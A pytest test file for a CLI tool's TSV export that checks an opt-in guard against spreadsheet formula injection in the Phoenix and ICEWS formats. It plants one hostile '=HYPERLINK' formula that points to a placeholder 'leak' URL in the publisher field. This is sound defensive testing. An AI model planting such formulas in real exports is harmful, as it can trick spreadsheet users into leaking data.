"""Phoenix and ICEWS TSV: an opt-in spreadsheet guard (UX18). Real SQLite, the real CLI in process."""

from __future__ import annotations

import csv
import dataclasses
import io

import pytest
from typer.testing import CliRunner

from communique.cli import app
from communique.export.formats import export
from communique.model import CommuniqueError
from communique.store import Corpus

HOSTILE = '=HYPERLINK("http://example.invalid/?leak","open me")'


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory):
    from communique.store.synthetic import synthetic_documents

    path = tmp_path_factory.mktemp("export-ux18") / "h.db"
    docs = []
    for coded in synthetic_documents(6, seed=12):
        # A publisher name is what a feed or a JSONL line says it is: the statement's author controls it.
        document = dataclasses.replace(coded.document, source=HOSTILE, url=None)
        docs.append(dataclasses.replace(coded, document=document))
    with Corpus(str(path)) as corpus:
        corpus.add_many(docs)
    return path


def _rows(db, format: str, **kwargs) -> list[list[str]]:
    buf = io.StringIO()
    with Corpus(str(db), create=False) as corpus:
        assert export(corpus, format, buf, **kwargs) > 0
    return list(csv.reader(io.StringIO(buf.getvalue()), delimiter="\t"))


@pytest.mark.parametrize(("format", "column"), [("phoenix", 25), ("icews", 13)])
def test_tsv_cells_are_guarded_only_when_asked(hostile_db, format, column):
    """ICEWS 'Publisher' and Phoenix 'source' are the statement's own words: a formula when opened."""
    plain = _rows(hostile_db, format)
    body = plain[1:] if format == "icews" else plain
    assert {row[column] for row in body} == {HOSTILE}  # the formats keep the text exactly by default
    safe = _rows(hostile_db, format, spreadsheet_safe_tsv=True)
    body = safe[1:] if format == "icews" else safe
    assert {row[column] for row in body} == {"'" + HOSTILE}
    # Only text that starts a formula changes: codes, dates, counts and ids are the same cells.
    assert [r[:column] + r[column + 1 :] for r in safe] == [r[:column] + r[column + 1 :] for r in plain]


def test_the_guard_is_refused_for_formats_that_keep_text_exactly(hostile_db):
    with (
        Corpus(str(hostile_db), create=False) as corpus,
        pytest.raises(CommuniqueError, match="not to jsonl"),
    ):
        export(corpus, "jsonl", io.StringIO(), spreadsheet_safe_tsv=True)


def test_the_cli_option(hostile_db, tmp_path):
    out = tmp_path / "events.tsv"
    runner = CliRunner()
    args = ["export", str(out), "--format", "icews", "--db", str(hostile_db)]
    result = runner.invoke(app, [*args, "--spreadsheet-safe"])
    assert result.exit_code == 0, result.output
    assert "\t\"'=HYPERLINK(" in out.read_text(encoding="utf-8")  # quoted: the cell holds quotes
    refused = runner.invoke(
        app, ["export", "-", "--format", "plover", "--db", str(hostile_db), "--spreadsheet-safe"]
    )
    assert refused.exit_code == 2 and "--spreadsheet-safe" in refused.output
